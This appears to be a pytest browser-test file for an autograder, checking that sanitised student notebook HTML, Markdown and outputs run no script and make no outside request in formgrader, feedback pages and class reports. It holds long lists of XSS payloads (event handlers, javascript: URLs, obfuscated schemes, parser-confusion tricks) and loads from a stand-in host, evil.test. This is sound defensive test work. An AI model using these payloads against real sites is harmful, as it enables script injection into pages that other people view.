"""What students displayed and wrote runs nothing and loads nothing where it is shown."""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat
import pytest
import tiny
from lab import CHROMIUM, open_page
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from autograder.notebooks.sanitize import harmless_html, harmless_markdown
from autograder.results.graded_notebook import to_bytes

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no `chromium` on the PATH"),
]
RUN = "window.ran=(window.ran||0)+1"
THERE = "http://evil.test"
HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={THERE}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img/src="x"/onerror="{RUN}">',
    f"<img src={THERE}/p.png>",
    f"<img srcset='{THERE}/p.png 1x'>",
    f"<picture><source srcset={THERE}/p.png><img></picture>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href={THERE}/p.png /></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>a</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<math><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={THERE}/></iframe>",
    f"<object data={THERE}/></object>",
    f"<embed src={THERE}/>",
    f"<link rel=stylesheet href={THERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url={THERE}/'>",
    f"<base href={THERE}/>",
    f"<style>@import url({THERE}/x.css); body {{background: url({THERE}/b.png)}}</style>",
    f"<div style='background:url({THERE}/b.png)'>x</div>",
    f"<div style='background-image:\\75rl({THERE}/b.png)'>x</div>",
    f"<p style='color:red; list-style:url({THERE}/l.png)'>x</p>",
    f"<table background={THERE}/t.png><tr><td>x</table>",
    f"<body onload={RUN} background={THERE}/b.png>",
    f"<video src={THERE}/v.mp4 poster={THERE}/v.png onerror={RUN} autoplay></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<input autofocus onfocus={RUN}>",
    f"<form action={THERE}><button formaction='javascript:{RUN}'>x</button></form>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='java&#115;cript:{RUN}'>x</a>",
    f"<a href=' &#14; javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><title><img src=x onerror={RUN}></title>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload={RUN}/>'>",
    f"<div class='score' id='notebook' style='position:fixed;top:0'>{RUN}</div>",
    "</div></div></div></body></html><plaintext>",
]
MARKDOWN = [
    f"[a](javascript:{RUN})",
    f"[a]( java\nscript:{RUN})",
    f"[a](java&#115;cript:{RUN})",
    f"[a](<javascript:{RUN}>)",
    f"[a][b]\n\n[b]: javascript:{RUN}",
    f"[a][c]\n\n[c]:\n  <javascript:{RUN}>",
    f"<javascript:{RUN}>",
    f"[a](data:text/html,<script>{RUN}</script>)",
    f"![a]({THERE}/p.png)",
    f"![a][p]\n\n[p]: {THERE}/q.png",
    f"![p]\n\n[p]: {THERE}/r.png",
    f"[![a]({THERE}/s.png)](https://x.org)",
    f'![a"onerror="{RUN}](x)',
    f"`<script>`<script>{RUN}</script>",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"$x$ <img src=x onerror={RUN}> $$\\href{{javascript:{RUN}}}{{x}}$$",
    f"\\begin{{equation}}<img src=x onerror={RUN}>\\end{{equation}}",
    f"<https://x/onmouseover={RUN}//>",
    f"a\n\n<div\nonclick={RUN}\nstyle=position:fixed>x</div>",
    f"x | y\n--|--\n<img src=x onerror={RUN}> | 1",
    "![a](attachment:x.png)",
]
MISSING = f'![a](attachment:y.png) ![b](attachment:x.png"onerror="{RUN})'  # formgrader fails
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>"
OTHERS = [
    {"image/svg+xml": SVG},
    {"image/svg+xml": f"</img><script>{RUN}</script>"},
    {"application/javascript": RUN},
    {"text/latex": f"$x$<script>{RUN}</script>"},
    {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$"},
    {"image/png": f'x" onerror="{RUN}'},
    {"image/jpeg": f'"><script>{RUN}</script>'},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
    {"application/vnd.vegalite.v5+json": {"data": {"url": f"{THERE}/d.json"}}},
    {"application/geo+json": {"x": f"<script>{RUN}</script>"}},
    {f'text/html"><script>{RUN}</script>': "x"},
    {"text/plain": f"<script>{RUN}</script>"},
    {"application/pdf": "JVBERi0="},
]
FRAME = '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a'
FRAME += '</th></tr></thead><tbody><tr><th scope="row">0</th><td>1.5</td></tr></tbody></table>'


def hostile_notebook(*more):
    """The tiny unit with all of it in cells of a student's own, and in the written answer."""
    v4 = nbformat.v4
    notebook = tiny.answered(explain="\n\n".join(MARKDOWN[:-1] + HTML))
    shown = [{"text/html": html} for html in HTML] + [{"text/markdown": m} for m in MARKDOWN[:-1]]
    shown += [*OTHERS, {"text/html": FRAME}]
    strange = {"image/png": {"width": f'1" onerror="{RUN}'}, "isolated": True}
    for number, data in enumerate(shown):
        outputs = [
            v4.new_output("display_data", data=data, metadata=copy.deepcopy(strange)),
            v4.new_output("execute_result", data=data, execution_count=1),
        ]
        notebook.cells.append(v4.new_code_cell("x", id=f"own-{number}", outputs=outputs))
    for number, text in enumerate([*MARKDOWN, *HTML, *more], start=len(shown)):
        attached = {"x.png": {"image/png": f'"onerror="{RUN}'}}
        cell = v4.new_markdown_cell(text, id=f"own-{number}")
        cell.attachments = attached
        notebook.cells += [cell, v4.new_raw_cell(text, id=f"own-raw-{number}")]
    cell = v4.new_code_cell("y", id="own-error")
    bad = f"\x1b[31m<script>{RUN}</script>"
    cell.outputs = [
        v4.new_output("stream", name="stdout", text=bad),
        v4.new_output("error", ename=bad, evalue=bad, traceback=[bad]),
    ]
    notebook.cells.append(cell)
    return notebook


def in_formgrader(notebook) -> str:
    """The notebook's page, as formgrader makes it."""
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    for step in notebook.cells:
        step.metadata.pop("nbgrader", None)  # of points, which formgrader reads elsewhere
    resources = {
        "assignment_id": "a", "notebook_id": "n", "submission_id": "s", "index": 0, "total": 1,
        "base_url": "http://formgrader.test", "student": "ada", "last_name": "", "first_name": "",
        "notebook_path": "n.ipynb",
    }  # fmt: skip
    text, _ = HTMLExporter(config=config).from_notebook_node(notebook, resources=resources)
    return text


def behaviour(path: Path) -> tuple[int, list[str], list[str], str]:
    """What a page does: scripts run, requests to strangers, addresses that run, its text."""
    with open_page(1000, 1000) as page:
        requests = []

        def route(route):
            if route.request.url.startswith("file:"):
                route.continue_()
                return
            requests.append(route.request.url)
            route.fulfill(status=204)  # which also keeps the page where it is sent elsewhere

        page.route("**/*", route)
        page.goto(path.as_uri())
        page.wait_for_timeout(1500)
        ran = page.evaluate("window.ran || 0")
        links = page.evaluate(
            "[...document.querySelectorAll('a, area')].map(a => (a.href.baseVal ?? a.href))"
        )
        handlers = page.evaluate(
            "[...document.querySelectorAll('#notebook *, main *')].flatMap(e => "
            "[...e.attributes].filter(a => a.name.startsWith('on')).map(a => a.name))"
        )
        runs = [a for a in links if a.lower().startswith(("javascript:", "data:", "vbscript:"))]
        evil = [url for url in requests if "evil" in url]
        return ran, evil, runs + handlers, page.locator("body").inner_text()


def those_that_act(pieces: list[str]) -> list[str]:
    """The pieces of HTML that run or load something, each alone in a page."""
    acting = []
    with open_page(1000, 1000) as page:
        requests: list[str] = []

        def route(route):
            requests.append(route.request.url)
            route.fulfill(status=204)

        page.route("**/*", route)
        for piece in pieces:
            requests.clear()
            page.set_content(f"<script>window.ran = 0</script><body><div>{piece}</div>")
            page.wait_for_timeout(100)
            if page.evaluate("window.ran") or any("evil" in url for url in requests):
                acting.append(piece)
    return acting


def test_each_payload_alone_does_nothing_once_it_is_cleaned():
    """Uncleaned many of them do, or this could not fail."""
    assert len(those_that_act(HTML)) > 20
    assert those_that_act([harmless_html(html) for html in HTML]) == []


def test_markdown_alone_does_nothing_once_it_is_cleaned():
    assert len(those_that_act([markdown2html_mistune(text) for text in MARKDOWN[:-1]])) > 3
    cleaned = [markdown2html_mistune(harmless_markdown(text)) for text in [*MARKDOWN, *HTML]]
    assert those_that_act(cleaned) == []


def test_formgrader_runs_and_loads_nothing(tmp_path):
    kept = nbformat.reads(to_bytes(hostile_notebook(MISSING)).decode(), as_version=4)
    path = tmp_path / "page.html"
    path.write_text(in_formgrader(kept))
    ran, requests, runs, text = behaviour(path)
    assert (ran, requests, runs) == (0, [], [])
    assert "1.5" in text and "left out: application/javascript" in text


def test_feedback_and_report_run_and_load_nothing(tmp_path):
    from autograder.course.courses import open_course
    from autograder.reports.class_report import write_report

    root = tiny.write_course(tmp_path)
    shows = "\n".join(
        f"display({data!r}, raw=True)" for data in [{"text/html": html} for html in HTML] + OTHERS
    )
    hand_in = tiny.answered(explain="\n\n".join(MARKDOWN + HTML), double=shows + "\ndouble = 1")
    tiny.hand_in(root, "ada", hand_in)
    result = tiny.grade_json(root)["ada"]
    write_report(open_course(root), [], root / "report.html", "http://formgrader.test")
    for path in (Path(result["feedback"][0]), root / "report.html"):
        ran, requests, runs, _ = behaviour(path)
        assert (ran, requests, runs) == (0, [], [])
